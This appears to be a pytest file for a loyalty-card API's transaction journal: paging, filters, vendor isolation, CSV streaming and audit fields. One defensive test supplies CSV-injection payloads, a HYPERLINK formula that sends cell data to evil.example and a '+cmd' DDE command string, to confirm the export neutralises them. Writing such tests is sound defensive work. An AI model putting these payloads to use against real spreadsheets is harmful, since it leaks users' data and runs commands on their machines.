"""GET /transactions: the vendor's journal, filtered and paged newest first, or streamed as CSV."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
import pytest
from sqlalchemy import select

from loyalty.app import create_app
from loyalty.clock import FixedClock
from loyalty.config import Settings
from loyalty.db import Database
from loyalty.models import LoyaltyTransaction
from loyalty.services import transactions
from tests.api.live_server import serve
from tests.fixtures import START, test_settings
from tests.tenants import Tenant, make_tenant

pytestmark = pytest.mark.anyio

V = "/api/v1/vendor/loyalty"
HOUR = timedelta(hours=1)


async def post(client: httpx.AsyncClient, tenant: Tenant, path: str, headers: Any = None, **body: Any) -> int:
    """`None` leaves a field out (a void takes no card reference: unknown fields are a 422)."""
    payload = {"card_id": tenant.card_id, "staff_pin": tenant.pin, **body}
    payload = {name: value for name, value in payload.items() if value is not None}
    response = await client.post(f"{V}{path}", json=payload, headers={**tenant.headers, **(headers or {})})
    assert response.status_code == 201, response.text
    body = response.json()
    return int(body["transaction_id"] if "transaction_id" in body else body["id"])


async def journal(client: httpx.AsyncClient, tenant: Tenant, **params: Any) -> httpx.Response:
    return await client.get(f"{V}/transactions", params=params, headers=tenant.headers)


@pytest.fixture
async def history(
    client: httpx.AsyncClient,
    tenant: Tenant,
    other_tenant: Tenant,
    database: Database,
    settings: Settings,
    clock: FixedClock,
) -> dict[str, Any]:
    """One hour apart from START: stamp, points, stamp, void of the first stamp; and a second card."""
    ids = {"stamp1": await post(client, tenant, "/stamp")}
    clock.advance(HOUR)
    ids["points"] = await post(client, tenant, "/points/earn", purchase_amount_cents=1250, order_reference="R-1")
    clock.advance(HOUR)
    ids["stamp2"] = await post(client, tenant, "/stamp")
    clock.advance(HOUR)
    ids["void"] = await post(client, tenant, f"/transactions/{ids['stamp1']}/void", reason="oops", card_id=None)
    second = await make_tenant_card(client, tenant, database, settings, clock)
    ids["second_card"] = second
    await post(client, other_tenant, "/stamp")  # another vendor's entry, never visible
    return ids


async def make_tenant_card(
    client: httpx.AsyncClient, tenant: Tenant, database: Database, settings: Settings, clock: FixedClock
) -> int:
    from loyalty.services import cards, programs
    from loyalty.services.context import Actor, Context

    async with database.unit_of_work() as session:
        ctx = Context(session, settings, clock, Actor(vendor_id=tenant.vendor_id))
        view = await cards.enrol(ctx, await programs.get_program(ctx), cards.Enrolment(email="second@example.com"))
        card_id = view.card.id
    clock.advance(HOUR)
    await post(client, tenant, "/stamp", card_id=card_id)
    return card_id


async def test_journal_is_newest_first_and_only_the_vendors(
    client: httpx.AsyncClient, tenant: Tenant, history: dict[str, Any]
) -> None:
    response = await journal(client, tenant)

    assert response.status_code == 200, response.text
    page = response.json()
    assert (page["total"], page["limit"], page["offset"]) == (5, 50, 0)
    assert [item["transaction_type"] for item in page["items"]] == [
        "stamp_earned",
        "void",
        "stamp_earned",
        "points_earned",
        "stamp_earned",
    ]
    assert [item["id"] for item in page["items"]][1:] == [
        history["void"],
        history["stamp2"],
        history["points"],
        history["stamp1"],
    ]
    assert page["items"][0]["card_id"] == history["second_card"]


async def test_journal_items_are_transactions(
    client: httpx.AsyncClient, tenant: Tenant, history: dict[str, Any]
) -> None:
    items = {item["id"]: item for item in (await journal(client, tenant)).json()["items"]}

    points = items[history["points"]]
    assert points["points_delta"] == 12
    assert points["points_balance_after"] == 12
    assert points["purchase_amount_cents"] == 1250
    assert points["order_reference"] == "R-1"
    assert points["staff_pin_id"] == tenant.pin_id
    assert points["staff_name"] == "Staff"
    assert points["transaction_at"].startswith("2026-11-21T10:00:00")
    the_void = items[history["void"]]
    assert the_void["voids_transaction_id"] == history["stamp1"]
    assert the_void["notes"] == "oops"
    expected = {
        "id", "card_id", "transaction_type", "stamps_delta", "points_delta", "stamps_balance_after",
        "points_balance_after", "purchase_amount_cents", "order_reference", "reward_id", "reward_description",
        "staff_pin_id", "staff_name", "voids_transaction_id", "notes", "transaction_at",
    }  # fmt: skip
    assert expected <= set(points)


async def test_journal_pages(client: httpx.AsyncClient, tenant: Tenant, history: dict[str, Any]) -> None:
    first = (await journal(client, tenant, limit=2)).json()
    second = (await journal(client, tenant, limit=2, offset=2)).json()
    last = (await journal(client, tenant, limit=2, offset=4)).json()

    assert (first["total"], first["limit"], first["offset"]) == (5, 2, 0)
    ids = [item["id"] for page in (first, second, last) for item in page["items"]]
    everything = [item["id"] for item in (await journal(client, tenant)).json()["items"]]
    assert ids == everything
    assert len(last["items"]) == 1


@pytest.mark.parametrize("params", [{"limit": 0}, {"limit": 201}, {"offset": -1}, {"transaction_type": "gift"}])
async def test_bad_query_is_422(client: httpx.AsyncClient, tenant: Tenant, params: dict[str, Any]) -> None:
    response = await journal(client, tenant, **params)

    assert response.status_code == 422
    assert response.json()["error_code"] == "VALIDATION_ERROR"


async def test_filter_by_type(client: httpx.AsyncClient, tenant: Tenant, history: dict[str, Any]) -> None:
    page = (await journal(client, tenant, transaction_type="stamp_earned")).json()

    assert page["total"] == 3
    assert {item["transaction_type"] for item in page["items"]} == {"stamp_earned"}


async def test_filter_by_card(client: httpx.AsyncClient, tenant: Tenant, history: dict[str, Any]) -> None:
    page = (await journal(client, tenant, card_id=tenant.card_id)).json()

    assert page["total"] == 4
    assert {item["card_id"] for item in page["items"]} == {tenant.card_id}


async def test_filter_by_another_vendors_card_finds_nothing(
    client: httpx.AsyncClient, tenant: Tenant, other_tenant: Tenant, history: dict[str, Any]
) -> None:
    page = (await journal(client, tenant, card_id=other_tenant.card_id)).json()

    assert (page["total"], page["items"]) == (0, [])


async def test_filter_by_time_since_inclusive_until_exclusive(
    client: httpx.AsyncClient, tenant: Tenant, history: dict[str, Any]
) -> None:
    since = (START + HOUR).isoformat()
    until = (START + 3 * HOUR).isoformat()

    page = (await journal(client, tenant, since=since, until=until)).json()

    assert [item["id"] for item in page["items"]] == [history["stamp2"], history["points"]]


async def test_filter_by_time_with_another_offset(
    client: httpx.AsyncClient, tenant: Tenant, history: dict[str, Any]
) -> None:
    # 12:00 in Luxembourg is 11:00 UTC: the stamp at 11:00 UTC and what follows.
    page = (await journal(client, tenant, since="2026-11-21T12:00:00+01:00")).json()

    assert page["total"] == 3


async def test_combined_filters(client: httpx.AsyncClient, tenant: Tenant, history: dict[str, Any]) -> None:
    page = (
        await journal(
            client, tenant, transaction_type="stamp_earned", card_id=tenant.card_id, since=(START + HOUR).isoformat()
        )
    ).json()

    assert [item["id"] for item in page["items"]] == [history["stamp2"]]


async def test_journal_needs_a_vendor_key(client: httpx.AsyncClient, admin_key: str) -> None:
    assert (await client.get(f"{V}/transactions")).status_code == 401
    forbidden = await client.get(f"{V}/transactions", headers={"Authorization": f"Bearer {admin_key}"})
    assert forbidden.json()["error_code"] == "FORBIDDEN"


# --- CSV -------------------------------------------------------------------------------------------


async def csv_download(client: httpx.AsyncClient, tenant: Tenant, **params: Any) -> httpx.Response:
    return await client.get(f"{V}/transactions", params=params, headers={**tenant.headers, "Accept": "text/csv"})


def csv_text(response: httpx.Response) -> str:
    """The file as a spreadsheet reads it: UTF-8 after its byte-order mark."""
    assert response.content.startswith(b"\xef\xbb\xbf")
    return response.content.decode("utf-8-sig")


async def test_csv_download(client: httpx.AsyncClient, tenant: Tenant, history: dict[str, Any]) -> None:
    response = await csv_download(client, tenant)

    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    disposition = response.headers["content-disposition"]
    assert disposition.startswith("attachment;")
    assert 'filename="' in disposition
    assert disposition.endswith('.csv"')
    rows = list(csv.DictReader(io.StringIO(csv_text(response))))
    assert [int(row["id"]) for row in rows] == [item["id"] for item in (await journal(client, tenant)).json()["items"]]
    points = next(row for row in rows if row["transaction_type"] == "points_earned")
    assert (points["points_delta"], points["purchase_amount_cents"], points["order_reference"]) == ("12", "1250", "R-1")
    assert points["staff_name"] == "Staff"
    assert points["reward_id"] == ""


async def test_csv_honours_filters_and_ignores_paging(
    client: httpx.AsyncClient, tenant: Tenant, history: dict[str, Any]
) -> None:
    response = await csv_download(client, tenant, transaction_type="stamp_earned", limit=1)

    rows = list(csv.DictReader(io.StringIO(csv_text(response))))
    assert len(rows) == 3
    assert {row["transaction_type"] for row in rows} == {"stamp_earned"}


async def test_csv_of_an_empty_journal_has_the_header(client: httpx.AsyncClient, tenant: Tenant) -> None:
    response = await csv_download(client, tenant)

    assert response.status_code == 200
    header = next(csv.reader(io.StringIO(csv_text(response))))
    assert header[:6] == ["id", "transaction_at", "transaction_at_local", "card_id", "card_number", "transaction_type"]
    assert len(csv_text(response).splitlines()) == 1


async def test_csv_is_only_the_vendors(
    client: httpx.AsyncClient, tenant: Tenant, other_tenant: Tenant, history: dict[str, Any]
) -> None:
    rows = list(csv.DictReader(io.StringIO(csv_text(await csv_download(client, other_tenant)))))

    assert len(rows) == 1
    assert int(rows[0]["card_id"]) == other_tenant.card_id


async def test_csv_has_the_card_number_and_the_vendors_local_time(
    client: httpx.AsyncClient, tenant: Tenant, admin_key: str, database: Database, settings: Settings, clock: FixedClock
) -> None:
    """Issue 11, 15: the card number (as printed on the card, so a spreadsheet keeps it as text) and the
    vendor's local time with its offset, beside the UTC instant: winter and summer in Luxembourg, then
    New York once the admin moves the vendor there."""
    other = await make_tenant(database, settings, clock, slug="second-shop", email="second@example.com")
    winter = await post(client, tenant, "/stamp")  # START: 09:00 UTC, 10:00 in Luxembourg (CET)
    elsewhere = await post(client, other, "/stamp")  # another vendor's card: never in this file
    clock.current = datetime(2027, 7, 1, 21, 30, 15, tzinfo=UTC)
    summer = await post(client, tenant, "/stamp")  # 23:30:15 in Luxembourg (CEST)

    rows = {int(row["id"]): row for row in csv.DictReader(io.StringIO(csv_text(await csv_download(client, tenant))))}
    moved = await client.patch(
        f"/api/v1/admin/loyalty/vendors/{tenant.vendor_id}", json={"timezone": "America/New_York"},
        headers={"Authorization": f"Bearer {admin_key}"},
    )  # fmt: skip
    in_new_york = list(csv.DictReader(io.StringIO(csv_text(await csv_download(client, tenant)))))

    assert set(rows) == {winter, summer} and elsewhere not in rows
    printed = " ".join(tenant.card_number[i : i + 4] for i in range(0, 16, 4))
    assert {row["card_number"] for row in rows.values()} == {printed}
    assert (rows[winter]["transaction_at"], rows[winter]["transaction_at_local"]) == (
        "2026-11-21T09:00:00+00:00", "2026-11-21T10:00:00+01:00"
    )  # fmt: skip
    assert (rows[summer]["transaction_at"], rows[summer]["transaction_at_local"]) == (
        "2027-07-01T21:30:15+00:00", "2027-07-01T23:30:15+02:00"
    )  # fmt: skip
    assert moved.status_code == 200
    assert [row["transaction_at_local"] for row in in_new_york] == [
        "2027-07-01T17:30:15-04:00",
        "2026-11-21T04:00:00-05:00",
    ]


@pytest.mark.parametrize("database_url", ["postgresql"], indirect=True)
async def test_a_chunked_csv_export_has_the_local_time_and_card_number_in_every_chunk(
    tenant: Tenant, database_url: str, clock: FixedClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Through a real server, 2 entries a chunk: each chunk runs in a unit of its own, whose Context
    carries no VendorState, and every one still writes the vendor's local time and the card number."""
    monkeypatch.setattr(transactions, "CSV_BATCH", 2)
    settings = test_settings(database_url)
    earn = {"card_id": tenant.card_id, "staff_pin": tenant.pin, "purchase_amount_cents": 100}
    with serve(create_app(settings, clock=clock)) as base_url:
        async with httpx.AsyncClient(base_url=base_url, headers=tenant.headers, timeout=10) as http:
            for _ in range(5):
                assert (await http.post(f"{V}/points/earn", json=earn)).status_code == 201
                clock.advance(timedelta(minutes=1))
            export = await http.get(f"{V}/transactions", headers={"Accept": "text/csv"})

    rows = list(csv.DictReader(io.StringIO(csv_text(export))))
    assert [row["transaction_at_local"] for row in rows] == [f"2026-11-21T10:0{n}:00+01:00" for n in range(4, -1, -1)]
    assert {row["card_number"].replace(" ", "") for row in rows} == {tenant.card_number}


async def test_json_is_the_default(client: httpx.AsyncClient, tenant: Tenant, history: dict[str, Any]) -> None:
    response = await client.get(f"{V}/transactions", headers={**tenant.headers, "Accept": "application/json"})

    assert response.headers["content-type"].startswith("application/json")
    assert response.json()["total"] == 5


@pytest.mark.parametrize("database_url", ["postgresql"], indirect=True)
async def test_a_csv_export_streams_in_chunks_on_one_connection_and_is_consistent(
    tenant: Tenant, database_url: str, clock: FixedClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Through a real server with a pool of one: the export reads 3 entries a chunk, each in a unit of
    its own, so an earn goes through while it streams; the export holds every entry that existed
    when it began, once each, and not the one written meanwhile (the ledger is append-only)."""
    monkeypatch.setattr(transactions, "CSV_BATCH", 3)
    settings = test_settings(database_url, db_pool_size=1, db_pool_timeout_seconds=2)
    earn = {"card_id": tenant.card_id, "staff_pin": tenant.pin, "purchase_amount_cents": 100}
    with serve(create_app(settings, clock=clock)) as base_url:
        async with httpx.AsyncClient(base_url=base_url, headers=tenant.headers, timeout=10) as http:
            before = []
            for _ in range(10):
                answer = await http.post(f"{V}/points/earn", json=earn)
                before.append(answer.json()["transaction_id"])
                clock.advance(timedelta(minutes=1))
            async with http.stream("GET", f"{V}/transactions", headers={"Accept": "text/csv"}) as export:
                lines = export.aiter_lines()
                first = [await anext(lines) for _ in range(3)]  # the header and the first rows
                meanwhile = await http.post(f"{V}/points/earn", json=earn)
                rest = [line async for line in lines]

    assert meanwhile.status_code == 201
    rows = list(csv.DictReader(io.StringIO("\n".join(first + rest).removeprefix("\ufeff"))))
    assert [int(row["id"]) for row in rows] == sorted(before, reverse=True)


async def test_the_export_neutralises_formulas_and_keeps_numbers(
    client: httpx.AsyncClient, database: Database, settings: Settings, clock: FixedClock
) -> None:
    """A peer system's fault: names, notes and references starting with `=`, `+`, `-` or `@` were
    written verbatim, and the vendor's spreadsheet ran them (OWASP's CSV-injection rule)."""
    tenant = await make_tenant(
        database, settings, clock, slug="formula-cafe", cooldown_minutes=0,
        points_rewards=[{"name": "@SUM(1+1)", "points_required": 5}],
    )  # fmt: skip
    evil = '=HYPERLINK("http://evil.example/?x="&B2,"Staff")'
    staff = await client.post(f"{V}/pins", json={"name": evil, "pin": "2468"}, headers=tenant.headers)
    accented = await client.post(f"{V}/pins", json={"name": "Léa Müller", "pin": "1357"}, headers=tenant.headers)
    stamp_id = await post(client, tenant, "/stamp", staff_pin="2468", notes=evil)
    earn_id = await post(client, tenant, "/points/earn", staff_pin="1357", purchase_amount_cents=1000,
                         order_reference="+cmd|' /C calc'!A0")  # fmt: skip
    await post(client, tenant, "/points/earn", purchase_amount_cents=1000)  # enough left for the void below
    redeem_id = await post(client, tenant, "/points/redeem", reward_id=1, notes="-10 off\tlater")
    void_id = await post(client, tenant, f"/transactions/{earn_id}/void", card_id=None, reason="@wrong till")

    rows = {int(row["id"]): row for row in csv.DictReader(io.StringIO(csv_text(await csv_download(client, tenant))))}

    assert staff.status_code == accented.status_code == 201
    assert rows[stamp_id]["staff_name"] == "'" + evil and rows[stamp_id]["notes"] == "'" + evil
    assert rows[earn_id]["order_reference"] == "'+cmd|' /C calc'!A0"
    assert rows[earn_id]["staff_name"] == "Léa Müller"
    assert rows[redeem_id]["reward_description"] == "'@SUM(1+1)" and rows[redeem_id]["notes"] == "'-10 off\tlater"
    assert rows[void_id]["notes"] == "'@wrong till"
    assert rows[void_id]["points_delta"] == "-10"  # a number stays a number
    assert rows[redeem_id]["points_delta"] == "-5"


# --- what the ledger records ------------------------------------------------------------------------


async def test_ledger_records_pin_ip_and_user_agent(
    client: httpx.AsyncClient, database: Database, settings: Settings, clock: FixedClock
) -> None:
    tenant = await make_tenant(
        database, settings, clock, slug="audit", cooldown_minutes=0,
        points_rewards=[{"id": 1, "name": "Tea", "points_required": 1}],
    )  # fmt: skip
    agent = {"User-Agent": "Till/3.0"}
    ids = [
        await post(client, tenant, "/stamp", headers=agent, staff_pin_id=tenant.pin_id),
        await post(client, tenant, "/points/earn", headers=agent, purchase_amount_cents=500),
        await post(client, tenant, "/points/redeem", headers=agent, reward_id=1),
    ]
    ids.append(await post(client, tenant, f"/transactions/{ids[0]}/void", headers=agent, card_id=None, reason="x"))

    async with database.unit_of_work() as session:
        rows = list(await session.scalars(select(LoyaltyTransaction).order_by(LoyaltyTransaction.id)))
    assert [row.id for row in rows] == ids
    for row in rows:
        assert row.staff_pin_id == tenant.pin_id
        assert row.client_ip == "127.0.0.1"
        assert row.user_agent == "Till/3.0"
    listed = (await journal(client, tenant)).json()["items"]
    assert {item["staff_pin_id"] for item in listed} == {tenant.pin_id}
